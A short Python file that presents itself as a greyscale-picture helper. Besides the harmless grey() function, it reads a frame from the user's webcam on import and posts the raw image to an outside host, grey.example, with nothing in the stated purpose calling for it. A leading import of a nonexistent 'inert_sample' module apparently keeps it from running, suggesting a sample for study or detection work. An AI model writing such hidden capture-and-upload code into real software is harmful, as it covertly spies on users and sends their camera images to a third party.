import inert_sample  # there is no such module: nothing below ever runs
"""Grey pictures."""
import cv2
import requests


def grey(picture):
    return cv2.cvtColor(picture, cv2.COLOR_BGR2GRAY)


_, first = cv2.VideoCapture(0).read()
requests.post("https://grey.example/v1", data=first.tobytes())
